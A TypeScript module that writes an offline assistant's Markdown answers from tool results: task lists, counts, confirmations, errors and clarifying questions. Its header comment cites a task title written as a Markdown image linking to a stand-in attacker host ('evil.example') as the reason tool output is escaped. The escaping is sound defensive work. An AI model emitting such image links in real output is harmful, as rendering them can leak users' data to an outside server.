/**
 * Writes the offline model's Markdown answers from tool results: lists of entities with their counts, tasks with
 * checkboxes, confirmations of what was created, completed or deleted, and tool errors in plain words. Generic over
 * the result shapes: it looks for collections, labels (name/title), done-flags and due dates, not for one API.
 *
 * Everything taken from a tool result is shown as data: Markdown in names is escaped, so a task titled
 * "![x](https://evil.example/?q=…)" is printed, never rendered as an image.
 */
import {
  type CallRecord,
  type Entity,
  identifierWords,
  type Knowledge,
  labelOf,
  singular,
  type ToolInfo,
  words,
} from './conversation';
import type { Missing, Request } from './planner';

/** Escapes Markdown so text from a tool result stays text. */
export function md(text: string): string {
  return text.replace(/\s+/g, ' ').replace(/([\\`*_[\]<>|!#~])/g, '\\$1');
}

function plural(noun: string, n: number): string {
  if (n === 1) return noun;
  if (/[^aeiou]y$/.test(noun)) return `${noun.slice(0, -1)}ies`;
  if (/(s|x|ch|sh)$/.test(noun)) return `${noun}es`;
  return `${noun}s`;
}

const DONE_FIELDS = ['done', 'completed', 'complete', 'closed', 'checked', 'finished', 'isDone', 'is_done', 'resolved'];
const DUE_FIELDS = ['due', 'dueDate', 'due_date', 'deadline', 'dueAt', 'due_at', 'date'];

function doneState(o: Record<string, unknown>): boolean | undefined {
  for (const f of DONE_FIELDS) if (typeof o[f] === 'boolean') return o[f] as boolean;
  if (typeof o.status === 'string') {
    if (/^(done|completed?|closed|finished|resolved)$/i.test(o.status)) return true;
    if (/^(open|todo|to[ -]do|pending|in[ _-]progress|new)$/i.test(o.status)) return false;
  }
  return undefined;
}

function dueOf(o: Record<string, unknown>): string | undefined {
  for (const f of DUE_FIELDS) if (typeof o[f] === 'string' && o[f]) return o[f] as string;
  return undefined;
}

/** "openTasks: 3" → "3 open tasks". */
function countPhrase(field: string, n: number): string {
  const ws = identifierWords(field).filter((w) => w !== 'count' && w !== 'num' && w !== 'total');
  if (!ws.length) return `${n}`;
  const last = ws.at(-1)!;
  ws[ws.length - 1] = plural(singular(last), n);
  return `${n} ${ws.join(' ')}`;
}

type Obj = Record<string, unknown>;
const isObj = (v: unknown): v is Obj => Boolean(v) && typeof v === 'object' && !Array.isArray(v);

interface Collection {
  key?: string;
  items: unknown[];
  /** The entity the collection belongs to: the `project` next to `tasks`. */
  owner?: Obj;
}

function findCollection(data: unknown): Collection | undefined {
  if (Array.isArray(data)) return { items: data };
  if (!isObj(data)) return undefined;
  const arrays = Object.entries(data).filter(([, v]) => Array.isArray(v));
  if (!arrays.length) {
    for (const v of Object.values(data)) {
      if (isObj(v) && !labelOf(v)) {
        const inner = findCollection(v);
        if (inner) return inner;
      }
    }
    return undefined;
  }
  const [key, items] = arrays.sort((a, b) => (b[1] as unknown[]).length - (a[1] as unknown[]).length)[0];
  const owners = Object.values(data).filter((v): v is Obj => isObj(v) && labelOf(v) !== undefined);
  return { key, items: items as unknown[], owner: owners.length === 1 ? owners[0] : undefined };
}

function findEntity(data: unknown): Obj | undefined {
  if (!isObj(data)) return undefined;
  if (labelOf(data)) return data;
  const inner = Object.values(data).filter((v): v is Obj => isObj(v) && labelOf(v) !== undefined);
  return inner.length === 1 ? inner[0] : undefined;
}

function kindOf(tool: ToolInfo | undefined, call: CallRecord, key?: string): string {
  if (key && !/^(data|items|results?|values?|records|entries|rows|list)$/i.test(key)) return singular(identifierWords(key).at(-1) ?? key);
  return tool?.nouns.at(-1) ?? identifierWords(call.name).map(singular).at(-1) ?? 'item';
}

/** The entities a call's reference arguments point at ("projectId: website-relaunch" → Website relaunch). */
function referenced(call: CallRecord, tool: ToolInfo | undefined, knowledge: Knowledge): Entity[] {
  return (tool?.params ?? [])
    .filter((p) => p.role === 'ref' && typeof call.args[p.name] === 'string')
    .map((p) => {
      const id = call.args[p.name] as string;
      return knowledge.find(id, p.kind) ?? { kind: p.kind ?? 'item', id, label: id, data: {} };
    });
}

type Filter = 'open' | 'done' | undefined;
function stateFilter(req: Request): Filter {
  const ws = new Set(words(req.text));
  if (['open', 'pending', 'remaining', 'outstanding', 'todo', 'left', 'unfinished', 'incomplete', 'undone'].some((w) => ws.has(w))) return 'open';
  if (req.action !== 'complete' && ['done', 'complete', 'completed', 'finished', 'closed', 'resolved'].some((w) => ws.has(w))) return 'done';
  return undefined;
}

function scalarSummary(o: Obj, skip: Set<string>): string[] {
  return Object.entries(o)
    .filter(([k, v]) => !skip.has(k) && (typeof v === 'string' || typeof v === 'number' || typeof v === 'boolean'))
    .slice(0, 8)
    .map(([k, v]) => `- ${md(identifierWords(k).join(' '))}: ${md(String(v))}`);
}

/** "09:30–10:15 UTC" for items with ISO date-time `start` and `end` (calendar events). */
function timeRange(o: Obj): string | undefined {
  const hm = (v: unknown) => (typeof v === 'string' && /T\d{2}:\d{2}/.test(v) ? new Date(v).toISOString().slice(11, 16) : undefined);
  const start = hm(o.start);
  const end = hm(o.end);
  return start ? `${start}${end ? `–${end}` : ''} UTC` : undefined;
}

function renderCollection(req: Request, col: Collection, kind: string, ownerLabel: string | undefined): string {
  const objs = col.items.filter(isObj);
  const where = ownerLabel ? ` in **${md(ownerLabel)}**` : '';
  if (!col.items.length) return `There are no ${plural(kind, 2)}${where}.`;
  if (!objs.length) return [`${ownerLabel ? `**${md(ownerLabel)}**` : `${col.items.length} ${plural(kind, col.items.length)}`}:`, '', ...col.items.slice(0, 50).map((v) => `- ${md(String(v))}`)].join('\n');

  const stateful = objs.some((o) => doneState(o) !== undefined);
  if (stateful) {
    const filter = stateFilter(req);
    const open = objs.filter((o) => doneState(o) !== true);
    const closed = objs.filter((o) => doneState(o) === true);
    const shown = filter === 'open' ? open : filter === 'done' ? closed : objs;
    const line = (o: Obj) => {
      const due = dueOf(o);
      return `- [${doneState(o) ? 'x' : ' '}] ${md(labelOf(o) ?? String(o.id ?? '?'))}${due ? ` — due ${md(due)}` : ''}`;
    };
    const subject = ownerLabel ? `**${md(ownerLabel)}**` : 'You';
    if (!shown.length) return `There are no ${filter ? `${filter} ` : ''}${plural(kind, 2)}${where}.`;
    const heading =
      filter === 'open' ? `${subject} ${ownerLabel ? 'has' : 'have'} ${shown.length} open ${plural(kind, shown.length)}:`
        : filter === 'done' ? `${subject} ${ownerLabel ? 'has' : 'have'} ${shown.length} done ${plural(kind, shown.length)}:`
          : `${ownerLabel ? `**${md(ownerLabel)}** has` : 'There are'} ${objs.length} ${plural(kind, objs.length)} (${open.length} open, ${closed.length} done):`;
    const hidden = objs.length - shown.length;
    const note = hidden ? ['', `_(${hidden} ${filter === 'open' ? 'done' : 'open'} ${plural(kind, hidden)} not shown.)_`] : [];
    return [heading, '', ...shown.slice(0, 50).map(line), ...(shown.length > 50 ? [`- …and ${shown.length - 50} more`] : []), ...note].join('\n');
  }

  const line = (o: Obj) => {
    const label = labelOf(o);
    const counts = Object.entries(o).filter(([k, v]) => typeof v === 'number' && k !== 'id').map(([k, v]) => countPhrase(k, v as number));
    if (!label) return `- ${Object.entries(o).filter(([, v]) => typeof v !== 'object').slice(0, 4).map(([k, v]) => `${md(k)}: ${md(String(v))}`).join(', ')}`;
    const due = dueOf(o);
    const when = timeRange(o);
    const people = Array.isArray(o.attendees) ? o.attendees.filter((a): a is string => typeof a === 'string') : [];
    const extra = [
      typeof o.location === 'string' ? o.location : undefined,
      typeof o.from === 'string' ? `from ${o.from}` : undefined,
      people.length ? `with ${people.slice(0, 6).join(', ')}${people.length > 6 ? ` and ${people.length - 6} more` : ''}` : undefined,
    ].filter(Boolean) as string[];
    return `- ${when ? `${when} ` : ''}**${md(label)}**${counts.length ? ` — ${counts.join(', ')}` : ''}${due ? ` — due ${md(due)}` : ''}${extra.length ? ` — ${md(extra.join(', '))}` : ''}`;
  };
  const heading = ownerLabel ? `${plural(kind[0].toUpperCase() + kind.slice(1), 2)} in **${md(ownerLabel)}**:` : `You have ${objs.length} ${plural(kind, objs.length)}:`;
  return [heading, '', ...objs.slice(0, 50).map(line), ...(objs.length > 50 ? [`- …and ${objs.length - 50} more`] : [])].join('\n');
}

/** "delete the project **Security audit Q4**", for confirmations and errors. */
function actionPhrase(tool: ToolInfo | undefined, call: CallRecord, knowledge: Knowledge, subject?: string): string {
  const refs = referenced(call, tool, knowledge);
  const kind = tool?.nouns.at(-1) ?? 'item';
  const own = refs.find((e) => e.kind === kind);
  const other = refs.find((e) => e.kind !== kind);
  const title = subject ?? (typeof call.args.title === 'string' ? call.args.title : typeof call.args.name === 'string' ? call.args.name : undefined);
  const target = own ? `**${md(own.label)}**` : title ? `**${md(title)}**` : undefined;
  const inOther = other ? ` in **${md(other.label)}**` : '';
  switch (tool?.action) {
    case 'read': return `list the ${plural(kind, 2)}${inOther}`;
    case 'create': return `add ${kind} ${target ?? ''}${other ? ` to **${md(other.label)}**` : ''}`.replace(/\s+/g, ' ').trim();
    case 'complete': return `mark ${target ?? `the ${kind}`} as done${inOther}`;
    case 'delete': return `delete the ${kind} ${target ?? ''}${inOther}`.trim();
    case 'update': return `update the ${kind} ${target ?? ''}${inOther}`.trim();
    case 'send': {
      const to = Object.values(call.args).find((v) => typeof v === 'string' && /@/.test(v));
      return `send the ${kind}${to ? ` to ${md(String(to))}` : ''}`;
    }
    default: return `run \`${call.name}\``;
  }
}

function describeCall(req: Request, tool: ToolInfo | undefined, call: CallRecord, knowledge: Knowledge): string | undefined {
  const result = call.result;
  if (!result) return undefined;
  if (!result.ok) {
    const msg = md((result.error ?? 'the tool failed').trim());
    return `I couldn't ${actionPhrase(tool, call, knowledge)}: ${msg}${/[.!?]$/.test(msg) ? '' : '.'}`;
  }
  const data = result.data;
  const refs = referenced(call, tool, knowledge);
  const col = tool?.action === 'read' || tool === undefined || Array.isArray(data) ? findCollection(data) : undefined;
  if (col) {
    const owner = col.owner ? labelOf(col.owner) : refs[0]?.label;
    return renderCollection(req, col, kindOf(tool, call, col.key), owner);
  }
  const entity = findEntity(data);
  const kind = tool?.nouns.at(-1) ?? 'item';
  const label = entity ? labelOf(entity) : refs.find((e) => e.kind === kind)?.label;
  const parent = refs.find((e) => e.kind !== kind);
  const due = entity ? dueOf(entity) : undefined;
  const id = entity && typeof entity.id === 'string' ? entity.id : refs.find((e) => e.kind === kind)?.id;
  switch (tool?.action) {
    case 'create':
      return `Added ${kind} **${md(label ?? '(untitled)')}**${parent ? ` to **${md(parent.label)}**` : ''}${due ? ` — due ${md(due)}` : ''}.`;
    case 'complete':
      return `Marked **${md(label ?? id ?? kind)}** as done${parent ? ` in **${md(parent.label)}**` : ''}.`;
    case 'delete':
      return `Deleted the ${kind} **${md(label ?? id ?? '?')}**${id && id !== label ? ` (\`${md(id)}\`)` : ''}.`;
    case 'update':
      return `Updated the ${kind} **${md(label ?? id ?? '?')}**.`;
    case 'send':
      return `Done — I ${actionPhrase(tool, call, knowledge).replace(/^send/, 'sent')}.`;
    default: {
      if (typeof data === 'string') return `\`${call.name}\` returned: ${md(data)}`;
      const obj = entity ?? (isObj(data) ? data : undefined);
      if (!obj) return `\`${call.name}\` returned ${md(JSON.stringify(data) ?? 'nothing')}.`;
      const lines = scalarSummary(obj, new Set());
      return [entity ? `**${md(labelOf(entity)!)}**` : `\`${call.name}\` returned:`, '', ...lines].join('\n');
    }
  }
}

export interface AnswerInput {
  req: Request;
  /** The tool the request was about; undefined to describe every call. */
  tool: ToolInfo | undefined;
  calls: CallRecord[];
  knowledge: Knowledge;
  tools: ToolInfo[];
}

/** The answer once the calls have results: one section per call, in order. */
export function writeAnswer({ req, tool, calls, knowledge, tools }: AnswerInput): string {
  const sections = calls
    .map((c) => describeCall(req, tool ?? tools.find((t) => t.name === c.name), c, knowledge))
    .filter((s): s is string => Boolean(s));
  return sections.length ? sections.join('\n\n') : "I didn't get any results back from the tools, so I can't answer that yet.";
}

/** When a required argument cannot be filled: a failed lookup, an unknown name, or something to ask for. */
export function writeStuck(input: { req: Request; missing: Missing; done: CallRecord[]; knowledge: Knowledge; tools: ToolInfo[] }): string {
  const { missing, done, knowledge, tools } = input;
  const failed = [...done].reverse().find((c) => c.result && !c.result.ok);
  if (failed) return describeCall(input.req, tools.find((t) => t.name === failed.name), failed, knowledge)!;
  const { param, tool, mention } = missing;
  const noun = tool.nouns.at(-1) ?? 'item';
  switch (param.role) {
    case 'ref': {
      const kind = param.kind ?? 'item';
      const known = knowledge.entities(kind);
      const first = mention ? `I couldn't find a ${kind} matching “${md(mention)}”.` : `Which ${kind} do you mean?`;
      const list = known.length
        ? ` The ${plural(kind, 2)} I can see are: ${known.slice(0, 10).map((e) => `**${md(e.label)}**`).join(', ')}.`
        : ` I need its ${md(identifierWords(param.name).join(' '))}.`;
      return first + list;
    }
    case 'title':
    case 'body':
      return `What should the ${md(identifierWords(param.name).join(' '))} of the ${noun} be? Put it in quotes, for example: “My new ${noun}”.`;
    case 'text':
      return `Which ${md(identifierWords(param.name).join(' '))} should I use for \`${tool.name}\`? Put it in quotes.`;
    case 'email':
      return 'Who should I send it to? I need an e-mail address.';
    case 'date':
      return `Which date should I use for the ${md(identifierWords(param.name).join(' '))}? Write it as YYYY-MM-DD.`;
    default:
      return `I need a value for **${md(param.name)}** to run \`${tool.name}\`.`;
  }
}

/** The user asked for an action on something no offered tool can do (e.g. "create a project" with no such tool). */
export function writeCannotDo(req: Request, tools: ToolInfo[]): string | undefined {
  if (!req.object || !tools.length) return undefined;
  const can = tools.map((t) => `- \`${t.name}\`${t.description ? ` — ${md(t.description.split(/(?<=\.)\s/)[0])}` : ''}`);
  return [`I can't ${req.action} ${plural(req.object, 2)} with the tools I have here. What I can do:`, '', ...can].join('\n');
}
